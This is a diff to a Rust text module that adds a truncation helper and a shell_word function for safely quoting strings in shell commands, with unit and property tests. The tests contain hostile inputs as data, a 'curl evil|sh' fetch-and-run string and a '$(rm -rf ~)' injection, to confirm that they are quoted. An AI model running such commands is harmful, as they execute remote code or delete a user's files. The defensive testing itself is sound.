@@ -41,14 +41,53 @@ pub fn visible(text: &str) -> Cow<'_, str> {
     Cow::Owned(shown)
 }
 
+/// `text` on one line and at most `limit` bytes of it, for notices and errors: made visible, line ends as blanks.
+pub fn one_line(text: &str, limit: usize) -> String {
+    let cut = &text[..text.floor_char_boundary(limit)];
+    let mut line = String::from(visible(cut)).replace(['\n', '\t'], " ");
+    if cut.len() < text.len() {
+        line.push('…');
+    }
+    line
+}
+
+/// `text` as one word of a POSIX shell, whatever stands in it: a name in a command that is to be typed is not to run
+/// anything (POSIX.1-2017, XCU 2.2.2).
+pub fn shell_word(text: &str) -> Cow<'_, str> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(alloc::format!("'{}'", text.replace('\'', "'\\''")))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn what_is_no_plain_word_is_quoted() {
+        for plain in ["wss://a.example:4390", "--server", "a-b_c"] {
+            assert_eq!(shell_word(plain), plain);
+        }
+        assert_eq!(shell_word("!x;curl evil|sh #"), "'!x;curl evil|sh #'");
+        assert_eq!(shell_word("x'; $(rm -rf ~) `id`"), r"'x'\''; $(rm -rf ~) `id`'");
+        assert_eq!(shell_word(""), "''");
+    }
 
     #[test]
     fn escape_sequences_and_overrides_are_made_visible() {
         assert_eq!(visible("plain\ttext\n"), "plain\ttext\n");
         assert_eq!(visible("\u{1b}[31mred\u{202e}"), "\\u{1b}[31mred\\u{202e}");
         assert_eq!(visible("\r\u{7}\u{9b}"), "\\u{d}\\u{7}\\u{9b}");
+    }
+
+    proptest! {
+        #[test]
+        fn one_line_is_one_line(text in any::<String>(), limit in 0..100_usize) {
+            let line = one_line(&text, limit);
+            prop_assert!(!line.contains(crate::text::is_unsafe));
+        }
     }
 }
